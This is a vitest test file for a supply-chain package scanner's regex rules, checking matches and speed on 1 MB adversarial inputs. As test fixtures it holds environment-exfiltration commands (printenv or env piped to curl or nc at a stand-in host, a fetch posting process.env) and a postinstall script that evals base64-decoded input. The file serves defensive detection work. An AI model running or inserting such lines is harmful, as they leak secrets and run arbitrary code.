import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { scanTarball } from '../../helper/src/scan/index.js';
import { HEX_PARSE } from '../../helper/src/scan/js/analyse.js';
import { RUNS_ENTRY } from '../../helper/src/scan/package.js';
import { FROM_IMPORT, viewPython } from '../../helper/src/scan/python/package.js';
import { ENV_DUMP } from '../../helper/src/scan/rules/credentials.js';
import type { PackageFile } from '../../helper/src/scan/files.js';
import { packTree, tempDir } from './support.js';

// The super-linear expressions found last session, each a way for one package to stall a scan. Each adversarial
// case is 1 MB: the old expressions took 82 s (HEX_PARSE), 88 s (ENV_DUMP) and minutes (FROM_IMPORT, build-backend)
// on it, so vitest's timeout is what fails here if one comes back; the answers must be the short string's.
const MB = 1024 * 1024;
const fill = (unit: string, size = MB) => unit.repeat(Math.ceil(size / unit.length));

describe('ENV_DUMP: the environment printed and piped (`\\bprintenv\\b[^\\n]*\\|`)', () => {
  it('matches printenv piped on its line, and the other dumps', () => {
    expect(ENV_DUMP.exec('x; printenv | curl -d @- https://e.invalid')).toEqual({ index: 3, text: 'printenv |' });
    expect(ENV_DUMP.test('printenv HOME PATH|base64')).toBe(true);
    expect(ENV_DUMP.test('a\nprintenv\nprintenv x | nc e.invalid 1')).toBe(true);
    expect(ENV_DUMP.test('fetch(u, { body: JSON.stringify(process.env) })')).toBe(true);
    expect(ENV_DUMP.test('env | curl -d @- https://e.invalid')).toBe(true);
  });
  it('does not match printenv without a pipe on its line, a pipe before it, or a word holding it', () => {
    expect(ENV_DUMP.test('printenv HOME\n| x')).toBe(false);
    expect(ENV_DUMP.test('a | printenv HOME')).toBe(false);
    expect(ENV_DUMP.test('myprintenv | x')).toBe(false);
    expect(ENV_DUMP.test('JSON.stringify(process.envelope)')).toBe(false);
  });
  it('1 MB of printenv without a pipe, on one line and on many, then a hit', () => {
    for (const unit of ['printenv ', 'printenv\n', 'printenv\n|']) {
      const long = fill(unit);
      expect(ENV_DUMP.test(long), unit).toBe(false);
      expect(ENV_DUMP.test(`${long}\nprintenv | x`), unit).toBe(true);
    }
  });
});

describe('HEX_PARSE: a base-16 parseInt (`parseInt\\([^)]*,\\s*16\\s*\\)`)', () => {
  it('matches parseInt(…, 16) with any blanks, and nested parseInt', () => {
    for (const s of ['parseInt(h, 16)', 'x=parseInt( a ,\n 16 )', 'parseInt(parseInt(a, 16)', 'parseInt(,16)']) expect(HEX_PARSE.test(s), s).toBe(true);
  });
  it('does not match another radix, a 16 that is not the last argument, or a 16 past the first `)`', () => {
    for (const s of ['parseInt(h, 10)', 'parseInt(h, 166)', 'parseInt(h, 16, x)', 'parseInt(f(h), 16)', 'parseInt(s.substr(i,2),16)', 'parseInt(h)', 'parseInt(h 16)', 'parseInt(h, 116)']) expect(HEX_PARSE.test(s), s).toBe(false);
  });
  it('1 MB of parseInt( with no `)`, or with a `)` only at the end, then a hit', () => {
    for (const unit of ['parseInt(', 'parseInt(a, ', 'parseInt(,16 x']) {
      const long = fill(unit);
      expect(HEX_PARSE.test(long), unit).toBe(false);
      expect(HEX_PARSE.test(`${long})`), unit).toBe(false);
      expect(HEX_PARSE.test(`${long}) parseInt(x, 16)`), unit).toBe(true);
    }
  });
});

const file = (path: string, text: string): PackageFile => ({ path, size: text.length, head: Buffer.from(text.slice(0, 64), 'latin1'), text });
const contexts = (files: Record<string, string>) => viewPython(Object.entries(files).map(([p, t]) => file(p, t)), 'sdist').contexts;

describe('FROM_IMPORT: relative and absolute `from … import …`', () => {
  const names = (text: string) => [...text.matchAll(FROM_IMPORT)].map((m) => [m[1] ?? '', m[2] ?? m[3] ?? '', m[4]!.trim()]);
  it('reads dots, module and names', () => {
    expect(names('from .a import b\n  from ..x.y import (c, d\nfrom pkg.sub import *\nfrom . import e')).toEqual([
      ['.', 'a', 'b'],
      ['..', 'x.y', 'c, d'],
      ['', 'pkg.sub', '*'],
      ['.', '', 'e'],
    ]);
  });
  it('does not read a comment, a line without import, or `from import`', () => {
    expect(names('# from .a import b\nfrom .a\nfrom  import x\nx = "from .a import b"')).toEqual([]);
  });
  it('follows the imports of setup.py, and not commented ones', () => {
    const c = contexts({ 'setup.py': 'from tools.helper import run\n# from tools.other import x\n', 'tools/helper.py': '', 'tools/other.py': '' });
    expect([c.get('tools/helper.py'), c.get('tools/other.py')]).toEqual(['install', 'other']);
  });
  it('1 MB lines of dots or blanks after `from`, then an import that is still followed', () => {
    for (const unit of ['.', '\t', ' .', 'a']) {
      const setup = `from ${fill(unit)}\nfrom\t${fill(unit)}x\nfrom tools.helper import run\n`;
      expect(contexts({ 'setup.py': setup, 'tools/helper.py': '' }).get('tools/helper.py'), JSON.stringify(unit)).toBe('install');
    }
  });
});

describe('in-tree build backend (PEP 517 `build-backend` with `backend-path`)', () => {
  const toml = '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = [\n  "_build",\n]\n';
  it('runs the backend module at install', () => {
    expect(contexts({ 'pyproject.toml': toml, '_build/backend.py': '' }).get('_build/backend.py')).toBe('install');
    expect(contexts({ 'pyproject.toml': '[build-system]\n  build-backend\t= \'pkg.api:B\'\nbackend-path=["."]', 'pkg/api/__init__.py': '' }).get('pkg/api/__init__.py')).toBe('install');
  });
  it('needs both keys, each at the start of its line', () => {
    expect(contexts({ 'pyproject.toml': '[build-system]\nbuild-backend = "backend"\n', '_build/backend.py': '' }).get('_build/backend.py')).toBe('other');
    expect(contexts({ 'pyproject.toml': '# x build-backend = "backend"\nbackend-path = ["_build"]', '_build/backend.py': '' }).get('_build/backend.py')).toBe('other');
  });
  it('1 MB of blank lines, or of unclosed backend-path arrays, before the keys', () => {
    for (const unit of ['\n', '\n\t', ' \n', 'backend-path = [\n', 'build-backend = "\n']) {
      const padded = `${fill(unit)}\n${toml}`;
      // An unclosed array runs on to the first `]`, here `requires = []`'s: no entry names `_build`.
      expect(contexts({ 'pyproject.toml': padded, '_build/backend.py': '' }).get('_build/backend.py'), JSON.stringify(unit)).toBe(unit.startsWith('backend-path') ? 'other' : 'install');
    }
  });
});

describe('RUNS_ENTRY: a hook that runs the entry point', () => {
  it('matches node ., with options, after a shell operator', () => {
    for (const s of ['node .', 'node ./', 'node . run', 'nodejs --max-old-space-size=100 -r=y .', 'cd x && node .', '(node .)', 'node --x .;']) expect(RUNS_ENTRY.test(s), s).toBe(true);
  });
  it('does not match node with a file, a word ending in node, or an option value taken as a file', () => {
    for (const s of ['node index.js', 'mynode .', 'node --require x .', 'node .x', 'node -e;.']) expect(RUNS_ENTRY.test(s), s).toBe(false);
  });
  it('1 MB of node and options with no entry, then a hit', () => {
    for (const unit of ['(node\t--=(', '&node\t-o', 'node -a ', 'node\t']) {
      const long = fill(unit);
      expect(RUNS_ENTRY.test(long), unit).toBe(false);
      expect(RUNS_ENTRY.test(`${long}; node .`), unit).toBe(true);
    }
  });
});

describe('decoded eval: DECODER and LONG_ENCODED (reviewed by hand in test/regex-audit.test.ts)', () => {
  let work: { dir: string; cleanup(): Promise<void> };
  beforeAll(async () => {
    work = await tempDir('sscs-decoder-');
  });
  afterAll(() => work.cleanup());
  const scan = async (name: string, code: string) =>
    (await scanTarball(await packTree(work.dir, name, { scripts: { postinstall: 'node i.js' } }, { 'i.js': code }))).findings.map((f) => `${f.severity} ${f.rule}`).sort();

  it('1 MB of unclosed Buffer.from( before an eval sink, and a quote before 1 MB of hex, give the short file\'s findings', async () => {
    // In a comment, so that the tree (and its findings) is the same at either size; the text rules read it all.
    const decoder = (pad: string) => `// ${pad}\neval(Buffer.from(process.argv[2], 'base64').toString());\n`;
    expect(await scan('d3', decoder(fill('Buffer.from("')))).toEqual(await scan('d4', decoder('Buffer.from("')));
    expect(await scan('l1', decoder(`"${fill('0')}`))).toEqual(await scan('l2', decoder(`"${'0'.repeat(400)}`)));
  });
});
